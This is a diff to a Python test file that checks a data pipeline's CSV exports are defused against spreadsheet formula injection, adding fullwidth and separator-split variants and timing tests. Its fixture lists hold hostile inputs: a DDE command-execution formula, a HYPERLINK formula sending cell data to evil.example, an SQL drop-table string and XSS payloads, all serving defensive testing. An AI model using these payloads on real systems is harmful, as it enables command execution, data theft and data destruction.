@@ -11,9 +11,11 @@ import html
 import logging
 import os
 import pty
+import random
 import re
 import subprocess
 import sys
+import time
 from html.parser import HTMLParser
 from typing import Any
 
@@ -24,12 +26,17 @@ from test_bad_input import LUIGI, sheet, tickets
 
 from agents.tickets import CATEGORIES, PRIORITIES, SENTIMENTS
 from pipeline.contracts import DATASETS
+from pipeline.formulas import defused, restored
 
 FORMULAS = [
     *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"),
     *("'=1", "''=1", "-5", "+91 98450 00001", "=1,2\n=3"),
+    *("a;=1", 'a; "=1', "a;';=1;;@x", "x\n=1", "x\n\n-1", "a\t+1", "\n\n=1"),  # where another language splits
+    *("＝1", "＋1", "－1", "＠x", "a;＝1", " =1", '"=1', " 　@x", "a - 5 = b; c - d"),
 ]
-STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+SPLIT = re.compile(r"[;\t\r\n]")
+SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+STARTS = (*SIGNS, "\t", "\r", "\n")
 SQL = "x'); drop table raw.support_tickets; --"
 TAG = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 MARKDOWN = "![x](http://evil.example/p.png) [y](javascript:alert(1)) `z` *b* | c"
@@ -50,6 +57,24 @@ def cells_of(path) -> list[str]:
         return [cell for row in csv.reader(file) for cell in row]
 
 
+def runs(cell: str) -> bool:
+    """Whether a piece of the cell is a formula, in a spreadsheet of whatever language that trims blanks and quotes."""
+    return any(piece.strip(' "\u00a0\u3000').startswith(SIGNS) for piece in SPLIT.split(cell))
+
+
+def test_defusing_can_be_undone_and_takes_time_by_the_length():
+    chance = random.Random(5)
+    texts = ["".join(chance.choices("a=-＠;'\" \t\r\n\u00a0", k=chance.randint(0, 12))) for _ in range(50_000)]
+    for text in [*FORMULAS, *texts]:
+        assert not runs(defused(text)) and not defused(text).startswith(STARTS), repr(text)
+        assert restored(defused(text)) == text, repr(text)
+    assert defused("a=b; c - d") == "a=b; c - d"
+    started = time.process_time()
+    for text in (";" * 200_000, "\n '" * 60_000, " =" * 100_000, ";=" * 100_000, "'" * 200_000 + "x"):
+        assert restored(defused(text)) == text
+    assert time.process_time() - started < 10  # quadratic, one alone takes minutes
+
+
 def test_no_cell_of_any_csv_artifact_is_a_formula(house):
     for number, formula in enumerate(FORMULAS, 1):
         for dataset, row in ROWS.items():
@@ -65,7 +90,8 @@ def test_no_cell_of_any_csv_artifact_is_a_formula(house):
     assert house.run() == 0
     files = [*house.output.glob("rejects/*.csv"), *house.output.glob("marts/*.csv")]
     assert len(files) > 30
-    formulas = [(file.name, cell) for file in files for cell in cells_of(file) if cell.startswith(STARTS)]
+    cells = [(file.name, cell) for file in files for cell in cells_of(file)]
+    formulas = [(name, cell) for name, cell in cells if cell.startswith(STARTS) or runs(cell)]
     numbers = re.compile(r"-\d+(\.\d+)?")  # of a column of numbers
     assert [(name, cell) for name, cell in formulas if name.count("rejects") or not numbers.fullmatch(cell)] == []
 
